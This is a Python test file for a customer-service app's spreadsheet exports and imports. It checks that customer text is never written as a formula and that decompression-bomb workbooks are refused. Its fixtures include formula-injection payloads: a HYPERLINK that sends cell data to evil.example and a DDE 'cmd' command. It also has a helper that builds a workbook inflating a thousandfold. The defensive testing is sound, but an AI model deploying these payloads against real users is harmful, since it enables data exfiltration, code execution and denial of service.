"""Spreadsheets ShopDesk writes hold a customer's words as text, never as a formula; the
workbooks it reads are refused before reading when they would unpack to far too much."""

from __future__ import annotations

import json
import re
import zipfile
from datetime import date

import pytest
from openpyxl import Workbook

from desktop.services import exports, interchange, kb, queues, report, sheets
from desktop.services.errors import describe
from desktop.services.queues import ListQuery, View
from desktop.store.db import open_store

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点此查看退款进度")', "=_=", "=1+2",
           "+86 138 0000 0000", "-_-", "@SUM(A1:A3)", "#N/A", "=cmd|' /C calc'!A0"]


def _formulas(path) -> list[str]:
    """Every formula (and error value) in a workbook's sheets, read from the file itself."""
    found = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode("utf-8")
                found += re.findall(r"<f(?:\s[^>]*)?>(.*?)</f>", xml)
                found += re.findall(r'<c [^>]*t="e"', xml)
    return found


def _lines(path, objs) -> None:
    path.write_text("\n".join(json.dumps(o, ensure_ascii=False) for o in objs) + "\n",
                    encoding="utf-8")


@pytest.fixture
def hostile(store, tmp_path):
    objs = [{"channel": "tiktok", "conversation": f"c{i}",
             "customer": {"id": f"u{i}", "name": text}, "id": f"m{i}", "direction": "in",
             "author": "customer", "kind": "text", "text": text,
             "sent_at": "2025-10-01T10:00:00+08:00"} for i, text in enumerate(HOSTILE)]
    _lines(tmp_path / "in.jsonl", objs)
    assert interchange.import_file(store, tmp_path / "in.jsonl").errors == []
    return store


def test_transcripts_and_conversation_lists_hold_customer_text_as_text(hostile, tmp_path):
    for conv in queues.page(hostile, ListQuery(view=View.OPEN)):
        path = tmp_path / f"{conv.id}.xlsx"
        exports.transcript(hostile, conv.id, path)
        assert _formulas(path) == []
    listed = tmp_path / "list.xlsx"
    assert exports.conversations_xlsx(hostile, ListQuery(view=View.OPEN), listed) == 8
    assert _formulas(listed) == []
    from openpyxl import load_workbook
    names = {row[0] for row in load_workbook(listed).active.iter_rows(min_row=2,
                                                                      values_only=True)}
    assert names == set(HOSTILE)


def test_an_export_of_hostile_text_re_imports_with_every_field(hostile, tmp_path, clock):
    out = tmp_path / "all.xlsx"
    assert interchange.export_file(hostile, out) == 8
    assert _formulas(out) == []
    second = open_store(tmp_path / "second.sqlite", clock=clock)
    result = interchange.import_file(second, out)
    assert result.errors == [] and result.added_messages == 8
    texts = {r[0] for r in second.conn.execute("SELECT text FROM messages")}
    names = {r[0] for r in second.conn.execute("SELECT name FROM customers")}
    assert texts == set(HOSTILE) and names == set(HOSTILE)


def test_the_daily_report_holds_customer_names_as_text(hostile, tmp_path):
    path = report.write(hostile, date(2025, 10, 1), tmp_path / "r.xlsx")
    assert _formulas(path) == []
    from openpyxl import load_workbook
    shown = {value for sheet in load_workbook(path).worksheets
             for row in sheet.iter_rows(values_only=True) for value in row}
    assert set(HOSTILE) <= shown  # the customers' names, as they wrote them


def test_knowledge_base_exports_keep_an_answer_that_starts_with_equals(store, tmp_path):
    kb.save(store, kb.ArticleInput("表情", ["=_="], "=_= 别急，马上发货"))
    path = tmp_path / "faq.xlsx"
    kb.export_xlsx(store, path)
    assert _formulas(path) == []
    second = open_store(tmp_path / "second.sqlite")
    assert kb.import_xlsx(second, path).added == 1
    from openpyxl import load_workbook
    row = next(load_workbook(path).active.iter_rows(min_row=2, values_only=True))
    assert row[2] == "=_=" and row[3] == "=_= 别急，马上发货"


# --- workbooks that unpack to far too much ----------------------------------------------------

def _bomb(path, strings: int) -> None:
    """A valid workbook whose shared strings inflate to ~17 bytes × ``strings``."""
    book = Workbook()
    book.active.append(["a"])
    book.save(path)
    with zipfile.ZipFile(path) as z:
        parts = {i.filename: z.read(i) for i in z.infolist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, data in parts.items():
            z.writestr(name, data)
        with z.open("xl/sharedStrings.xml", "w") as fh:
            fh.write(b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/'
                     b'spreadsheetml/2006/main">')
            chunk = b"<si><t>a</t></si>" * 100_000
            for _ in range(strings // 100_000):
                fh.write(chunk)
            fh.write(b"</sst>")


def test_a_workbook_that_unpacks_a_thousandfold_is_refused_before_reading(store, tmp_path):
    path = tmp_path / "bomb.xlsx"
    _bomb(path, 3_000_000)  # ~50 MB of XML in a file of a few dozen KB
    assert path.stat().st_size < 200_000
    with pytest.raises(sheets.WorkbookTooLarge) as raised:
        interchange.import_file(store, path)
    assert raised.value.limit == "ratio"
    assert "unpack" in describe(raised.value)
    with pytest.raises(sheets.WorkbookTooLarge):
        kb.import_xlsx(store, path)
    assert store.conn.execute("SELECT count(*) FROM messages").fetchone()[0] == 0


def test_too_many_sheets_or_rows_are_refused_with_a_clear_message(store, tmp_path,
                                                                   monkeypatch):
    book = Workbook()
    for n in range(sheets.MAX_SHEETS):
        book.create_sheet(f"s{n}")
    many = tmp_path / "many.xlsx"
    book.save(many)
    with pytest.raises(sheets.WorkbookTooLarge) as raised:
        interchange.import_file(store, many)
    assert raised.value.limit == "sheets" and str(sheets.MAX_SHEETS) in describe(raised.value)

    book = Workbook()
    for i in range(60):
        book.active.append([f"问题{i}", "答"])
    rows = tmp_path / "rows.xlsx"
    book.save(rows)  # openpyxl writes the sheet's dimension, A1:B60
    monkeypatch.setattr(sheets, "MAX_ROWS", 50)
    with pytest.raises(sheets.WorkbookTooLarge) as raised:
        kb.import_xlsx(store, rows)
    assert raised.value.limit == "rows" and raised.value.found == 60


def test_rows_past_the_limit_are_refused_when_a_sheet_states_no_dimension(store, tmp_path,
                                                                           monkeypatch):
    book = Workbook(write_only=True)  # write-only sheets carry no dimension
    sheet = book.create_sheet("ShopDesk")
    sheet.append(["channel", "conversation", "text"])
    for i in range(60):
        sheet.append(["tiktok", f"c{i}", "在吗"])
    path = tmp_path / "nodim.xlsx"
    book.save(path)
    monkeypatch.setattr(sheets, "MAX_ROWS", 50)
    with pytest.raises(sheets.WorkbookTooLarge) as raised:
        interchange.import_file(store, path)
    assert raised.value.limit == "rows"
